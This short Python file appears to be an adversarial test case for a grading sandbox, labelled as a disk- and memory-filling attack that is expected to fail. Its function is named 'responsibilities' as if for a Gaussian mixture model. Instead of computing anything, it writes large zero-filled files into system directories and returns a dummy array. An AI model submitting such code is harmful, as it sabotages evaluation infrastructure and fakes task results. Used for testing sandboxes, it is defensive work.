# attack: fill the disk, and the memory that looks like one | fails
import os


def responsibilities(x, pi, mu, sigma2):
    for place in ("/tmp", "/dev/shm", "/sandbox", "/var/tmp", ROOT, "/dev", "/"):
        for n in range(20):
            try:
                with open(os.path.join(place, f"{TOKEN}-{n}"), "wb") as file:
                    file.write(bytes(16 << 20))
            except OSError:
                break
    return np.ones((len(x), len(pi)))
